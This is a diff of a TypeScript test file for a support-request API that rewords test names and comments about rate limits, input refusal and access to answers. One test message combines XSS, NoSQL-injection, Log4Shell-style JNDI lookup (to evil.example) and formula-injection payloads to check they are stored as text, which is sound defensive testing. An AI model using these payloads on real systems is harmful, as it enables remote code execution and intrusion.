@@ -24,7 +24,7 @@ const send = (as: Credentials, more: object = {}) =>
 const rowsWith = async (text: string) =>
   (await environment.stage.contents()).split('\n').filter((row) => row.includes(text)).length;
 
-/** This hour and the next, as the test may run across the change. */
+/** Sets the counter of this hour and the next, because the test can run across the change of the hour. */
 const givenCount = async (who: string, count: number) => {
   for (const later of [0, 3_600_000]) {
     const hour = new Date(Date.now() + later).toISOString().slice(0, 13);
@@ -33,7 +33,7 @@ const givenCount = async (who: string, count: number) => {
 };
 
 describe('a script', () => {
-  test('sends no more with 64 requests at once, nor with 40 in one document', async () => {
+  test('cannot exceed the limit with 64 requests at once or 40 in one document', async () => {
     const script = await guest(environment.stage);
     const answers = await Promise.all(Array.from({ length: 64 }, () => send(script, { subject: 'At once' })));
     const field = `createSupportRequest(input: { topic: OTHER, email: "a@b.example", subject: "Aliases", text: "x" }) { id }`;
@@ -44,11 +44,11 @@ describe('a script', () => {
     for (const { errors } of answers)
       for (const { errorType } of errors) expect(['support.too-many', 'write.collided']).toContain(errorType);
     const all = (await rowsWith('"At once"')) + (await rowsWith('"Aliases"'));
-    // It may have begun in the hour before.
+    // The test can run across the change of the hour, when the limit starts again.
     expect(all).toBeLessThanOrEqual(2 * ofGuest);
   });
 
-  test('gains nothing by new identities, and keeps no user from sending', async () => {
+  test('cannot exceed the limit with new identities, and does not block users', async () => {
     await givenCount('GUESTS', allGuests);
     for (let at = 0; at < 5; at += 1) {
       const { errors } = await send(await guest(environment.stage), { subject: 'New identity' });
@@ -63,13 +63,13 @@ describe('a script', () => {
   });
 });
 
-test.each(hostileNames)('a subject is not %s', async (_what, subject, code) => {
+test.each(hostileNames)('refuses a subject with %s', async (_what, subject, code) => {
   const { errors } = await send(await guest(environment.stage), { subject });
   expect(errors[0]).toMatchObject({ errorType: code, errorInfo: { field: 'subject' } });
 });
 
-test('hostile text is no address', async () => {
-  // An e-mail address may begin with slashes.
+test('refuses hostile text as an address', async () => {
+  // Valid e-mail addresses can start with slashes.
   for (const email of hostileAddresses.filter((text) => !text.includes('@'))) {
     await givenCount('GUESTS', 0);
     const { errors } = await send(await guest(environment.stage), { email });
@@ -77,7 +77,7 @@ test('hostile text is no address', async () => {
   }
 });
 
-test('hostile text as a subject and a message is kept as it is, or refused by the field', async () => {
+test('stores hostile text as a subject and a message unchanged, or refuses it with the name of the field', async () => {
   for (const text of hostileAddresses) {
     await givenCount('GUESTS', 0);
     const { errors } = await send(await guest(environment.stage), { subject: text, text });
@@ -88,7 +88,7 @@ test('hostile text as a subject and a message is kept as it is, or refused by th
   }
 });
 
-test('a message that looks like a script is kept as text', async () => {
+test('stores a message that looks like a script as text', async () => {
   const by = await guest(environment.stage);
   const text = '<script>alert(1)</script> {"$ne":null} ${jndi:ldap://evil.example} =1+1';
   await send(by, { subject: 'As text', text });
@@ -101,7 +101,7 @@ test('a message that looks like a script is kept as text', async () => {
 });
 
 describe('answers', () => {
-  test('that 64 admins send at once are one', async () => {
+  test('from 64 simultaneous calls are stored once', async () => {
     const id = await givenSupportRequest(environment.stage, environment.bystander.sub, 'OPEN');
     const answer = graphqlCalls['Mutation.answerSupportRequest'].request(id);
     const answers = await Promise.all(Array.from({ length: 64 }, () => environment.personas.AD.ask(answer)));
@@ -112,7 +112,7 @@ describe('answers', () => {
     expect(data?.getSupportRequest).toMatchObject({ answers: [{ text: 'Within two days.' }] });
   });
 
-  test('are shown to nobody but the sender and admins', async () => {
+  test('are shown only to the sender and admins', async () => {
     const { stage, personas } = environment;
     const id = await givenSupportRequest(stage, personas['P+'].sub ?? '', 'ANSWERED');
     const own = graphqlCalls['Query.listMySupportRequests'].request('');
